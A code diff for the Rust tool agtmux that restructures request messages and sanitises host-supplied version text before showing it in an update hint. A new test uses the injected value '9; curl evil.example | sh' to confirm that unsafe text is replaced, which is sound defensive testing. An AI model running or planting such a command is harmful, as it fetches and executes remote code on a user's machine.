@@ -6,7 +6,7 @@ use std::time::Duration;
 
 use agtmux_api::VERSION;
 use agtmux_api::host_protocol::{
-    EvidenceBatch, HostHello, HostLine, HubLine, PROTOCOL_VERSIONS, ReplyOutcome, VersionGap,
+    EvidenceBatch, HostHello, HostLine, HubLine, NumberedRequest, PROTOCOL_VERSIONS, ReplyOutcome, VersionGap,
 };
 use agtmux_core::sanitize;
 use agtmux_core::target::TargetFault;
@@ -224,7 +224,7 @@ impl CollectConnection {
             let size = serde_json::to_vec(&action).map_or(0, |bytes| bytes.len());
             action.guards_mut().not_after = self.deadline_on_host(self.unwritten.len() + size);
         }
-        self.queue_line(&HubLine::Request { id: self.last_id, action: Box::new(action) });
+        self.queue_line(&HubLine::Request(NumberedRequest { id: self.last_id, action: Box::new(action) }));
     }
 
     /// The time on the host's clock when this connection will be given up if it stays silent. A later execution is not
@@ -265,7 +265,11 @@ fn check_version(hello: HostHello) -> Result<HostHello, ConnectionEnd> {
         "agtmux {version} on the host uses protocol {}, agtmux {VERSION} here uses {}; agtmux {older} is too old",
         hello.protocol.max, PROTOCOL_VERSIONS.max
     );
-    let newer_host = (gap == VersionGap::PeerTooNew).then_some(version);
+    // The host chooses the text, and a hint tells the user what to run.
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || ".+-".contains(c);
+    let plain = !version.is_empty() && version.chars().all(is_plain);
+    let newer_host = if plain { format!("agtmux {version}") } else { "a newer agtmux".into() };
+    let newer_host = (gap == VersionGap::PeerTooNew).then_some(newer_host);
     Err(ConnectionEnd { newer_host, ..ConnectionEnd::new(TargetFault::VersionMismatch, message) })
 }
 
@@ -353,18 +357,23 @@ mod tests {
 
     #[test]
     fn a_version_mismatch_names_the_side_to_update() {
-        let hello = |collect: u32| {
+        let hello_from = |collect: u32, version: &str| {
             let json = format!(
-                r#"{{"collect":{collect},"version":"9","now":"2026-01-01T00:00:00Z","tmux_versions":[],"more":1}}"#
+                r#"{{"collect":{collect},"version":"{version}","now":"2026-01-01T00:00:00Z","tmux_versions":[],"more":1}}"#
             );
             check_version(serde_json::from_str(&json).expect("a hello"))
         };
+        let hello = |collect| hello_from(collect, "9");
         assert!(hello(PROTOCOL_VERSIONS.max).is_ok());
         let old = hello(1).expect_err("protocol 1 is not supported");
         assert!(old.message.ends_with("agtmux on the host is too old") && old.newer_host.is_none(), "{old:?}");
         let new = hello(99).expect_err("protocol 99 is not supported");
         assert!(new.message.ends_with("agtmux here is too old"), "{new:?}");
-        assert_eq!(new.newer_host.as_deref(), Some("9"));
+        assert_eq!(new.newer_host.as_deref(), Some("agtmux 9"));
+        for text in ["9; curl evil.example | sh", ""] {
+            let newer = hello_from(99, text).expect_err("protocol 99 is not supported").newer_host;
+            assert_eq!(newer.as_deref(), Some("a newer agtmux"));
+        }
     }
 
     #[test]
